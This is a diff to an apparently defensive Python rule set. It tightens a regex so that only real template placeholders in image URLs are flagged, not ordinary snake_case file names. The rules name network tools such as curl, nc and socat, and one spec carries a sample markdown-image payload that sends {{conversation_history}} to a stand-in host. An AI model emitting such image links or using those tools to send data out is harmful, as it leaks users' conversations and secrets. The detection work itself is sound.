@@ -144,11 +144,17 @@ _SECRET_PARAM: Final = (
     r"|client_secret|password|passwd|pwd|session(?:id)?|jwt|x-amz-signature|sig)"
 )
 _NETWORK_TOOL: Final = r"\b(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|rsync|openssl|gsutil|aws)\b"
-# A template placeholder in a URL: {{x}}, {x}, ${x}, %7B%7Bx%7D%7D, <X>, [X], SOME_PLACEHOLDER.
-_PLACEHOLDER: Final = (
-    r"(?:\{\{?\s*[\w.\s-]{1,40}\}\}?|\$\{[\w.-]{1,40}\}|%7B(?:%7B)?[\w.%-]{1,60}?%7D|<[A-Za-z_][\w\s-]{0,40}>"
-    r"|\[[A-Za-z_][\w\s-]{0,40}\]|\b[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+\b)"
+#: A template placeholder's written forms: {{name}}, ${name}, %7Bname%7D, <name>, [name].
+_TEMPLATE: Final = (
+    r"\{\{?\s*[\w.\s-]{1,40}\}\}?|\$\{[\w.-]{1,40}\}|%7B(?:%7B)?[\w.%-]{1,60}?%7D|<[A-Za-z_][\w\s-]{0,40}>"
+    r"|\[[A-Za-z_][\w\s-]{0,40}\]"
 )
+_SCREAMING_SNAKE: Final = r"\b[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+\b"
+_PLACEHOLDER: Final = "(?:" + _TEMPLATE + "|" + _SCREAMING_SNAKE + ")"
+#: A placeholder in a URL's path: a template form, or SCREAMING_SNAKE_CASE matched case-sensitively (the rules
+#: run with IGNORECASE, under which :data:`_PLACEHOLDER`'s SCREAMING_SNAKE_CASE matches every snake_case file
+#: name, and an image's file name is not a placeholder: ``PNG_transparency_demonstration_1.png``).
+_PATH_PLACEHOLDER: Final = "(?:" + _TEMPLATE + "|(?-i:" + _SCREAMING_SNAKE + "))"
 # What conversation data a placeholder names.
 _DATA_WORD: Final = (
     r"(?:conversation|chat|histor|memor|message|password|passwd|secret|summary|context|e-?mail|api_?key|token"
@@ -693,8 +699,8 @@ _SPECS: Final[tuple[_Spec, ...]] = (
         "text",
         "a markdown or HTML image whose URL carries a template placeholder (the client leaks data by loading it)",
         "![loading](https://img.example-cdn.net/pixel.png?d={{conversation_history}})",
-        rf"!\[[^\]\n]{{0,100}}\]\(\s*https?://[^\s)]{{0,300}}?[?&#/=]{_PLACEHOLDER}"
-        rf"|<img\b[^>]{{0,200}}?src\s*=\s*['\"]?https?://[^\s'\">]{{0,300}}?[?&#/=]{_PLACEHOLDER}",
+        rf"!\[[^\]\n]{{0,100}}\]\(\s*https?://[^\s)]{{0,300}}?(?:[?&#=]{_PLACEHOLDER}|/{_PATH_PLACEHOLDER})"
+        rf"|<img\b[^>]{{0,200}}?src\s*=\s*['\"]?https?://[^\s'\">]{{0,300}}?(?:[?&#=]{_PLACEHOLDER}|/{_PATH_PLACEHOLDER})",
         (("![", "img"), ("{", "<", "[", "%7b", "_")),
     ),
     (
